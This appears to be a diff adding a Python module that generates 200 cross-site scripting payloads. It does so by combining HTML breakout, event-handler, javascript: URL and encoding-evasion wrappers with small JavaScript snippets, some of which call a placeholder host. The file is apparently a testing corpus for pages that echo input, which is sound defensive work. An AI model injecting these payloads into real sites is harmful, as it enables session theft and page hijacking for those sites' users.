@@ -1,0 +1,55 @@
+"""Two hundred strings that break pages which are careless with what they show."""
+
+from __future__ import annotations
+
+_CODE = (
+    "alert(1)",
+    "window.pwned=1",
+    "document.title='pwned'",
+    "fetch('http://x.example/')",
+    "top.location='//x.example'",
+)
+_HTML = (
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg/onload={}>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    '"><script>{}</script>',
+    "'><body onload={}>",
+    '" onmouseover="{}" x="',
+    "' onfocus='{}' autofocus tabindex=1 x='",
+    "javascript:{}",
+    "</title><script>{}</script>",
+    "</style><script>{}</script>",
+    "<style>*{{background:url(javascript:{})}}</style>",
+    "--><script>{}</script><!--",
+    "]]><script>{}</script>",
+    "<a href='javascript:{}'>x</a>",
+    "<form action='javascript:{}'><input type=submit autofocus></form>",
+    "<object data='data:text/html,<script>{}</script>'></object>",
+    "<embed src='javascript:{}'>",
+    "<link rel=stylesheet href='javascript:{}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href='javascript:{}//'>",
+    "<details open ontoggle={}>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "{{{{ {} }}}}",
+    "{{% set x = {} %}}",
+    "${{{}}}",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    "＜script＞{}＜/script＞",
+    "<scr\x00ipt>{}</scr\x00ipt>",
+    "<a xlink:href='javascript:{}'>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
+    "\u202e<script>{}</script>\u2066",
+    "\ud800<script>{}</script>\udfff",
+    "<template><script>{}</script></template>",
+    "<portal src='javascript:{}'>",
+)
+
+PAYLOADS = [form.format(code) for form in _HTML for code in _CODE]
